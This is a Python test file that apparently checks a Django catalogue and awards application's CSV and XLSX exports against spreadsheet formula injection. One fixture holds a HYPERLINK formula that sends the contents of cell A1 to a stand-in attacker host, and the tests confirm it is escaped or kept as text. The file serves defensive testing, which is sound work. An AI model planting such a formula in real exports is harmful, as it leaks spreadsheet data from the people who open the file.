"""Formula injection: a name starting with "=", "+", "-" or "@" is text in every spreadsheet we hand out."""

import csv
import importlib
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from import_export.resources import ModelResource
from openpyxl import load_workbook

from catalog.models import Product
from catalog.spreadsheets import NeutralisedExport
from scoring.enums import RoundState
from tests.factories import DecisionEntryFactory, ProducerFactory, ProductFactory, ResultsDecisionFactory
from tests.public.conftest import current_certificate
from tests.scoring.test_report import report, scored_round

EVIL = '=HYPERLINK("http://ke-gian.example/?x="&A1,"Bấm")'
RESOURCE_MODULES = ["catalog.resources", "scoring.resources", "awards.resources", "awards.artisans.resources"]


def _all_subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _all_subclasses(sub)


def test_every_import_export_resource_of_the_project_neutralises_its_export():
    for module in RESOURCE_MODULES:
        importlib.import_module(module)
    ours = [cls for cls in _all_subclasses(ModelResource) if cls.__module__.split(".")[0] in {"catalog", "scoring",
                                                                                             "awards"}]

    assert len(ours) >= 7
    assert [cls.__name__ for cls in ours if not issubclass(cls, NeutralisedExport)] == []


def test_product_resource_export_neutralises_a_formula_and_keeps_plain_names(db):
    from catalog.resources import ProductResource

    producer = ProducerFactory(name="-Cơ sở")
    ProductFactory(producer=producer, name=EVIL)
    ProductFactory(producer=producer, name="Nón lá")

    dataset = ProductResource().export(Product.objects.order_by("pk"))
    cells = [cell for row in dataset for cell in row]

    assert ("'" + EVIL in cells, EVIL in cells, "Nón lá" in cells) == (True, False, True)
    assert ("'-Cơ sở" in cells, "-Cơ sở" in cells) == (True, False)


def test_open_data_csv_neutralises_a_product_name(client, db):
    current_certificate(ProductFactory(name=EVIL))
    current_certificate(ProductFactory(name="Nón lá"))

    response = client.get(reverse("public:products_csv"))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))

    assert sorted(row["name"] for row in rows) == ["'" + EVIL, "Nón lá"]


def test_decision_entries_xlsx_stores_a_formula_like_name_as_text(client, secretary):
    decision = ResultsDecisionFactory()
    DecisionEntryFactory(decision=decision, rank=1, average=Decimal("88.00"), nomination__product__name=EVIL)
    DecisionEntryFactory(decision=decision, rank=2, average=Decimal("80.00"), nomination__product__name="Nón lá",
                         recognised=False, exclusion_reason="+ngoài số lượng")
    client.force_login(secretary)

    response = client.get(reverse("awards:decision_entries_xlsx", args=[decision.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}

    assert cells[EVIL] == "s"
    assert cells["+ngoài số lượng"] == "s"
    assert cells["Nón lá"] == "s"
    assert [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))][5] == 88  # numbers stay numbers


def test_round_report_xlsx_stores_a_formula_like_name_as_text(client, secretary):
    selection_round = scored_round(state=RoundState.RESULTS_PUBLISHED)
    Product.objects.update(name=EVIL)

    response = report(client, secretary, selection_round, "scoring:round_report_xlsx")
    sheet = load_workbook(io.BytesIO(response.content))["Xếp hạng"]
    row = list(sheet.iter_rows(min_row=2, max_row=2))[0]

    assert (row[2].value, row[2].data_type) == (EVIL, "s")
    assert (row[5].value, row[5].data_type) == (80, "n")


def test_certificate_list_xlsx_neutralises_a_product_name(client, secretary):
    from catalog.models import Certificate

    decision = ResultsDecisionFactory()
    entry = DecisionEntryFactory(decision=decision, rank=1, nomination__product__name=EVIL)
    entry.certificate = current_certificate(entry.nomination.product)
    entry.save()
    assert Certificate.objects.filter(entry__decision=decision).count() == 1
    client.force_login(secretary)

    response = client.get(reverse("awards:decision_certificates_xlsx", args=[decision.pk]))
    cell = load_workbook(io.BytesIO(response.content)).active.cell(row=2, column=2)

    # An XLSX keeps the name as it is, in a text cell (catalog.spreadsheets.xlsx): shown, never run.
    assert (cell.value, cell.data_type) == (EVIL, "s")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_neutralise_marks_every_formula_start(value):
    from catalog.spreadsheets import neutralise

    assert neutralise(value) == "'" + value
    assert neutralise("Nón lá") == "Nón lá"
    assert neutralise(-1) == -1
